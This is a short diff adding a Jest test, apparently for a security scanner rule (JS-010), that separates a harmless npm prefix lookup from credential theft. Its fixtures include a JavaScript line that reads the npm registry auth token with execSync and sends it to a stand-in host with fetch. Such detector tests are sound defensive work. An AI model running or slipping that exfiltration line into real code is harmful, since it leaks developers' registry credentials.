@@ -136,3 +136,12 @@ describe('JS-010 data that is the destination, not the payload', () => {
     expect(await ruleFindings('JS-010', variable)).toHaveLength(1);
   });
 });
+
+describe('token commands', () => {
+  it('`npm config get prefix` output is a path, not a secret; the auth token is', async () => {
+    const prefix = `const cp = require('child_process'); const p = cp.execSync('npm config get prefix').toString(); fetch('https://x.invalid/c?p=' + p);`;
+    expect(await ruleFindings('JS-010', prefix)).toHaveLength(0);
+    const token = `const cp = require('child_process'); const t = cp.execSync('npm config get //registry.npmjs.org/:_authToken').toString(); fetch('https://x.invalid/c?t=' + t);`;
+    expect(await ruleFindings('JS-010', token)).toHaveLength(1);
+  });
+});
